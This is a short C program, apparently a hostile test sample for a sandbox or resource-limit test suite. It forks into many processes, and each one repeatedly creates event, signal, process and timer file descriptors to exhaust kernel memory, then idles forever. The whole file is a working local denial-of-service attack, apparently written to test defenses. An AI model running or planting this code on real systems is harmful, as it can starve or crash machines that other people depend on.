// Attacks: kernel memory, with counters, timers, signal descriptors and process descriptors in as many processes as there may be.
#include "../hostile.h"
#include <sys/eventfd.h>
#include <sys/signalfd.h>
#include <sys/timerfd.h>
int main(void) {
  for (int i = 0; i < 4; i++) fork();
  sigset_t all;
  sigfillset(&all);
  struct itimerspec soon = {{0, 1000000}, {0, 1000000}};
  for (int made = 0; made >= 0;) {
    made = eventfd(1, 0);
    made = signalfd(-1, &all, 0);
    made = (int)syscall(SYS_pidfd_open, getpid(), 0);
    made = timerfd_create(CLOCK_MONOTONIC, 0);
    timerfd_settime(made, 0, &soon, NULL);
  }
  while (1) pause();
}
